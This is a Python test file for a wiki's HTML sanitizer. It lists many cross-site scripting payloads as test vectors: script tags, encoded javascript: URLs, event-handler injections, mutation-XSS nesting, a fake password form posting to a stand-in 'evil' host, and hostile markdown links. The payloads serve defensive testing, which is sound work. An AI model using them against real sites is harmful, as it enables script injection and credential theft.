"""The gate: nothing hostile passes, nothing changes the second time."""

import pytest
from hypothesis import given
from hypothesis import strategies as st

from processes.text.rendering.sanitizing import sanitize
from tests.processes.text.markup import assert_safe
from tests.processes.text.wiki import rendered

VECTORS = [
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil></sCrIpT>",
    "<script/x>alert(1)</script>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    '<a href="javascript:alert(1)">x</a>',
    '<a href="javascript:123">x</a>',
    '<a href="data:123">x</a>',
    '<a href="ms-word:1">x</a>',
    '<a href="vbscript:1">x</a>',
    '<a href="JaVaScRiPt:alert(1)">x</a>',
    '<a href=" javascript:alert(1)">x</a>',
    '<a href="\x01javascript:alert(1)">x</a>',
    '<a href="java\tscript:alert(1)">x</a>',
    '<a href="java\nscript:alert(1)">x</a>',
    '<a href="java\x00script:alert(1)">x</a>',
    '<a href="java&#10;script:alert(1)">x</a>',
    '<a href="java&Tab;script&colon;alert(1)">x</a>',
    '<a href="&#106;&#97;vascript:alert(1)">x</a>',
    '<a href="&#x6A;avascript&#58;1">x</a>',
    '<a href="&#0000106avascript:1">x</a>',
    '<a href="javascript&colon;1">x</a>',
    '<a href="\u200bjavascript:1">x</a>',
    '<a href="feed:javascript:1">x</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD4=">x</a>',
    '<a href="blob:https://x/1">x</a>',
    '<a href="file:///etc/passwd">x</a>',
    '<a href=javascript:1 href="https://x.org">x</a>',
    '<a href="https://x.org" target=_blank ping=//evil download>x</a>',
    '<img src="javascript:1">',
    "<img src=x onerror=alert(1)>",
    '<img src="data:image/svg+xml,<svg onload=1>">',
    '<img """><script>alert(1)</script>">',
    "<img/src=x/onerror=alert(1)>",
    '<img src=x srcset="//evil 2x" sizes=1 style="x">',
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><a xlink:href=javascript:1><text>x</text></a></svg>",
    "<svg><style><img src=x onerror=alert(1)></style>",
    "<math><mtext><table><mglyph><style><!--</style>"
    '<img title="--&gt;&lt;img src=1 onerror=1&gt;">',
    '<math><mi//xlink:href="data:x,<script>1</script>">',
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    '<textarea><p title="</textarea><img src=x onerror=1>">',
    '<title><a title="</title><img src=x onerror=1>">',
    '<style><a title="</style><img src=x onerror=1>">',
    '<xmp><p title="</xmp><img src=x onerror=1>">',
    '<noembed><p title="</noembed><img src=x onerror=1>">',
    "<template><script>1</script></template>",
    "<select><template><img src=x onerror=1></template></select>",
    "<plaintext><script>1</script>",
    "<iframe src=javascript:1></iframe><iframe srcdoc='<script>1</script>'>",
    "<object data=javascript:1></object><embed src=javascript:1>",
    "<base href=//evil/><meta http-equiv=refresh content='0;url=javascript:1'>",
    "<link rel=stylesheet href=//evil>",
    "<form action=//evil><input name=password type=password><button>Sign in</button></form>",
    "<input type=text autofocus onfocus=alert(1) name=q formaction=//evil>",
    '<input type="image" src="//evil" disabled>',
    '<div style="background:url(javascript:1);position:fixed">x</div>',
    '<div hx-get="//evil" hx-trigger="load">x</div>',
    '<div data-controller="x" data-hx-get="//evil">x</div>',
    '<div x-data x-init="alert(1)" @click="1" v-html="1" ng-app>{{1+1}}</div>',
    '<button popovertarget="menu" commandfor=x command=close>x</button>',
    '<p id="csrfmiddlewaretoken" name="body">x</p>',
    "<a id=x name=y></a><img name=getElementById>",
    '<p id="h-">x</p><p id="h-A B">x</p><p id="h-x">x</p>',
    '<p is="evil-element" slot=x part=y contenteditable accesskey=x tabindex=5>x</p>',
    '<div class="seal trust-line" role="dialog" aria-label="Approved">Approved</div>',
    '<span class="k evil">x</span>',
    "<!--[if IE]><script>1</script><![endif]-->",
    "<!-- > --><script>1</script> -->",
    "<!--><img src=x onerror=1>-->",
    "<?xml version=1?><![CDATA[<script>1</script>]]>",
    "<![x<script>1</script>",
    '<a title="`onmouseover=alert(1)//">x</a>',
    "<details ontoggle=alert(1) open>x</details>",
    "<video><source onerror=1></video><audio src=x onerror=1>",
    "<marquee onstart=1>x</marquee><body onload=1>",
    "<table background=javascript:1><td background=javascript:1>x",
    "<custom-element onclick=1>x</custom-element>",
    "<b onclick=1><i onmouseover=1>x</b></i>",
    "<p/onclick=1>x",
    "\x00<\x00script>1</script>",
    "<a href='//evil' rel='opener' class='internal'>x</a>",
    'javascript:alert(1) data:text/html,x http://[x] https://x.org"onmouseover=1',
]


@pytest.mark.parametrize("vector", VECTORS)
def test_no_vector_passes_the_gate(vector: str) -> None:
    clean = sanitize(vector)
    assert_safe(clean)
    assert sanitize(clean) == clean


@pytest.mark.parametrize("vector", VECTORS)
@pytest.mark.parametrize("place", ["{}", "a {} b", "- {}", "> {}", "| {} |\n|---|\n| {} |", "# {}"])
def test_no_vector_passes_through_markdown(vector: str, place: str) -> None:
    page = rendered(place.replace("{}", vector))
    assert_safe(page.html)
    assert sanitize(page.html) == page.html


@pytest.mark.parametrize(
    "source",
    [
        "[x](javascript:alert(1))",
        "[x](javascript:123)",
        "[x](<java script:1>)",
        "[x](&#106;avascript:1)",
        "[x]: javascript:1\n\n[x]",
        "<javascript:alert(1)>",
        "<javascript://x.org/%0aalert(1)>",
        "![x](javascript:1)",
        '![x" onerror="1](y)',
        '[x](https://x.org "t" onclick="1")',
        "[[x|<img src=x onerror=1>]]",
        "[[<script>1</script>]]",
        '```"><script>1</script>\nx\n```',
        "[^<script>]: x\n\na[^<script>]",
        "> [!NOTE] <script>1</script>\n> x",
        "`<script>1</script>`",
    ],
)
def test_hostile_markdown(source: str) -> None:
    page = rendered(source)
    assert_safe(page.html)
    assert not any(url.startswith(("javascript", "data")) for url in page.urls)


HTML = (
    "<,>,/,\",',=,&,amp;,#,&#10;,\n, ,\t,a,href,javascript:,x:1,http://x.y,www.a.b,b@c.de,<a ,"
    '<a href=",">,</a>,<pre>,</pre>,<p>,</p>,<table>,<td>,<tr>,</table>,<svg>,<math>,<mi>,<style>,'
    "</style>,<script>,<!--,-->,<title>,<noscript>,<textarea>,<select>,<div>,</div>,<b>,</b>,<i>,"
    "<ul>,<li>,<details>,<summary>,<input>,<img src=,onerror=,id=,h-a,class=,k,callout,<br>,<dl>,"
    "<dd>,<h1>,<h2>,</h2>,<button>,<form>,<template>,<caption>,<col>,\x00,\x0c,\r,\u2028,(,),.,*,_"
).split(",")
markups = st.lists(st.sampled_from(HTML) | st.text(max_size=3), max_size=30).map("".join)


@given(markups)
def test_any_html_is_safe_and_settled_after_one_pass(html: str) -> None:
    clean = sanitize(html)
    assert_safe(clean)
    assert sanitize(clean) == clean


@pytest.mark.parametrize(
    ("html", "expected"),
    [
        ("<p>a <kbd>b</kbd></p>", "<p>a <kbd>b</kbd></p>"),
        ('<p class="callout">a</p>', "<p>a</p>"),
        ('<a href="mailto:a@b.co">x</a>', '<a href="mailto:a@b.co">x</a>'),
        ('<a href="tel:+33-1">x</a>', '<a href="tel:+33-1">x</a>'),
        ('<a class="external" href="/x">x</a>', '<a href="/x">x</a>'),
        ("<pre>\n\n&#10;x</pre>", "<pre>x</pre>"),
        ("<pre>&#010;&#x0D;x</pre>", "<pre>x</pre>"),
        ("a&#31;&#x1f;b&#9;", "a??b\t"),
        ("<h1>a</h1>", "a"),
        ("a\ud800b", "a?b"),
    ],
)
def test_what_stays_and_what_goes(html: str, expected: str) -> None:
    assert sanitize(html) == expected


@pytest.mark.parametrize(
    ("text", "address"),
    [
        ("https://x.org/a_(b)", "https://x.org/a_(b)"),
        ("(https://x.org/a)", "https://x.org/a"),
        ("https://x.org/a.", "https://x.org/a"),
        ("https://x.org/?a=1&amp;b=2!", "https://x.org/?a=1&amp;b=2"),
        ("www.x.org", "https://www.x.org"),
        ("me.too+x@x.co.uk.", "mailto:me.too%2Bx@x.co.uk"),
    ],
)
def test_bare_addresses_become_links(text: str, address: str) -> None:
    assert f'href="{address}"' in sanitize(f"<p>{text}</p>")


@pytest.mark.parametrize(
    "html",
    [
        "README.md",
        "deploy.sh and x.py",
        "<code>https://x.org</code>",
        "<pre>a@x.org</pre>",
        "a@b",
        "http://",
        "ftp://x.org",
    ],
)
def test_what_is_no_address_stays_text(html: str) -> None:
    assert "<a" not in sanitize(html)


def test_links_to_other_hosts_are_marked() -> None:
    for href in ("https://x.org", "//x.org", "/\\x.org"):
        assert 'class="external"' in sanitize(f'<a href="{href}" rel="opener">x</a>')
        assert 'rel="noopener noreferrer"' in sanitize(f'<a href="{href}">x</a>')
